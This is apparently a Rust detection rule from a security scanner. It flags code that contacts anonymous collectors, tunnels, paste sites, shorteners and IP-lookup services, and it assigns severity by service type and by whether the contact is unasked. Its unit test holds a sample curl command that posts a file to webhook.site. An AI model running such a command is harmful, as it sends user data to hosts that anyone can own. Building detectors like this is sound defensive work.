//! A mailbox, tunnel or drop that anybody can have without a name is contacted.

use crate::event::{Effect, Event, When};
use crate::finding::Severity;
use super::address::{Address, address_of, from_url};
use super::context::{Context, Findings, when};
use super::known_hosts::{Service, service_at};
use super::{Rule, RuleClass};

pub(crate) const RULE: Rule = Rule {
    code: "suspicious-host",
    title: "a service is contacted where anybody can have an address",
    class: RuleClass::Network,
    cwe: None,
    severity: Severity::High,
    check,
};

fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
    for event in context.of(&[Effect::Request, Effect::Connect, Effect::NameLookup, Effect::Shell, Effect::Spawn]) {
        let Some((address, service)) = addresses(event)
            .into_iter()
            .find_map(|address| service_at(&address).map(|service| (address, service)))
        else {
            continue;
        };
        let unasked = event.when != When::Call;
        let (severity, what) = match service {
            Service::Collector => (Severity::High, "takes whatever is sent, for whoever owns the address"),
            Service::Tunnel if unasked => (Severity::High, "leads to a machine that nobody can name"),
            Service::Tunnel => (Severity::Medium, "leads to a machine that nobody can name"),
            Service::Drop if unasked => (Severity::High, "keeps what anybody puts there"),
            Service::Drop => (Severity::Low, "keeps what anybody puts there"),
            Service::Shortener if unasked => (Severity::Medium, "hides where an address leads"),
            Service::Shortener => (Severity::Low, "hides where an address leads"),
            Service::AddressLookUp if unasked => (Severity::Medium, "tells the machine's own address"),
            Service::AddressLookUp => (Severity::Low, "tells the machine's own address"),
        };
        let host = super::shown(&address.host.to_string());
        findings.add(severity, event.place, format!("{host} is contacted {}; it {what}", when(event.when)));
    }
}

fn addresses(event: &Event) -> Vec<Address> {
    if !matches!(event.effect, Effect::Shell | Effect::Spawn) {
        return address_of(event).into_iter().collect();
    }
    let line = super::command::line(event);
    let urls = line.split(|c: char| c.is_whitespace() || "\"'();".contains(c));
    urls.filter(|word| word.contains("://")).filter_map(from_url).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Role;
    use crate::made::{Made, text};

    #[test]
    fn what_a_service_does_decides() {
        let fetch = |url| Made::new().event(Effect::Request, "js:fetch", &[(Role::Url, text(url))]);
        assert_eq!(fetch("https://webhook.site/abc").found(RULE.code), [Severity::High]);
        assert_eq!(fetch("https://x.ngrok.io/").found(RULE.code), [Severity::Medium]);
        let raw = fetch("https://pastebin.com/raw/x").when(When::Load);
        assert_eq!(raw.found(RULE.code), [Severity::High]);
        assert!(fetch("https://example.com/").found(RULE.code).is_empty());
        let line = [(Role::Command, text("curl -d @x https://webhook.site/abc"))];
        let shell = Made::new().event(Effect::Shell, "py:os.system", &line);
        assert_eq!(shell.found(RULE.code), [Severity::High]);
    }
}
